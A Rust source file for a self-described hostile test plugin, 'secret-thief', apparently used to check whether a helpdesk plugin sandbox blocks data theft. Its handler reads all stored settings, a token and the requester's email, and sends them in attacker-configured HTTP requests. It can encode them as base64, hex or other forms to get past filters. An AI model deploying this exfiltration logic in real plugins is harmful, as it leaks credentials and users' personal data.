//! secret-thief: a hostile test plugin driven by its action payload:
//!
//! ```json
//! {"read_settings": true, "read_requester": true,
//!  "requests": [{"method": "POST", "url": "...", "headers": [["k", "v"]],
//!                "body": "... {email} ... {subject} ...", "encode": "base64"}]}
//! ```
//!
//! `{email}` (the requester's email, read through the broker) and `{subject}` in a body
//! or URL are replaced after `encode`: `plain`, `spaced`, `dashed`, `base64`, `hex`, `url`.
//! The summary has one line per step: `settings.all=…`, `settings.get=…`, then
//! `#<i> status=<n> body=<text>` (line breaks shown as ` | `) or
//! `#<i> error=<kind>: <message>`.

use airlock_sdk::http::Request;
use airlock_sdk::{Error, Event, Json, Outcome, Plugin, helpdesk, settings};

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn encode(value: &str, how: &str) -> String {
    match how {
        "spaced" => value
            .chars()
            .map(|c| c.to_string())
            .collect::<Vec<_>>()
            .join(" "),
        "dashed" => value.replace(['@', '.'], "-"),
        "base64" => base64(value.as_bytes()),
        "hex" => value.bytes().map(|b| format!("{b:02x}")).collect(),
        "url" => value
            .bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'0'..=b'9' => (b as char).to_string(),
                _ => format!("%{b:02X}"),
            })
            .collect(),
        _ => value.to_string(),
    }
}

fn cut(text: &str, max: usize) -> &str {
    let mut end = text.len().min(max);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

struct SecretThief;

impl Plugin for SecretThief {
    fn handle(event: Event) -> Result<Outcome, Error> {
        let Event::Action(action) = event else {
            return Ok(Outcome::new("ignored"));
        };
        let payload = Json::parse(&action.payload)?;
        let mut lines = Vec::new();
        if payload["read_settings"].as_bool() == Some(true) {
            lines.push(format!("settings.all={}", settings::all_raw()));
            lines.push(format!(
                "settings.get={}",
                settings::get_raw("token").unwrap_or_else(|| "none".into())
            ));
        }
        let mut email = String::new();
        if payload["read_requester"].as_bool() == Some(true)
            && let Some(id) = action.ticket.requester_id.as_deref()
        {
            email = helpdesk::get_user(id)?.email.unwrap_or_default();
        }
        let subject = action.ticket.subject.clone().unwrap_or_default();
        for (i, r) in payload["requests"]
            .as_array()
            .unwrap_or(&[])
            .iter()
            .enumerate()
        {
            let how = r["encode"].as_str().unwrap_or("plain");
            let fill = |s: &str| {
                s.replace("{email}", &encode(&email, how))
                    .replace("{subject}", &encode(&subject, how))
            };
            let mut req = Request::new(
                r["method"].as_str().unwrap_or("GET"),
                &fill(r["url"].as_str().unwrap_or("")),
            );
            for h in r["headers"].as_array().unwrap_or(&[]) {
                req = req.header(
                    h[0].as_str().unwrap_or(""),
                    &fill(h[1].as_str().unwrap_or("")),
                );
            }
            req = req.body(fill(r["body"].as_str().unwrap_or("")).into_bytes());
            let line = match req.send() {
                Ok(resp) => format!(
                    "#{i} status={} body={}",
                    resp.status,
                    cut(
                        &String::from_utf8_lossy(&resp.body)
                            .replace('\r', "")
                            .replace('\n', " | "),
                        600
                    )
                ),
                Err(e) => format!("#{i} error={}: {}", e.kind(), cut(e.message(), 300)),
            };
            lines.push(line);
        }
        let summary = lines.join("\n");
        Ok(Outcome::new(cut(&summary, 4000).to_string()))
    }
}

airlock_sdk::export_plugin!(SecretThief);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodings() {
        assert_eq!(base64(b"vera"), "dmVyYQ==");
        assert_eq!(encode("a@b.c", "hex"), "6140622e63");
        assert_eq!(encode("a@b.c", "url"), "a%40b%2Ec");
        assert_eq!(encode("ab", "spaced"), "a b");
        assert_eq!(encode("a@b.c", "dashed"), "a-b-c");
    }
}
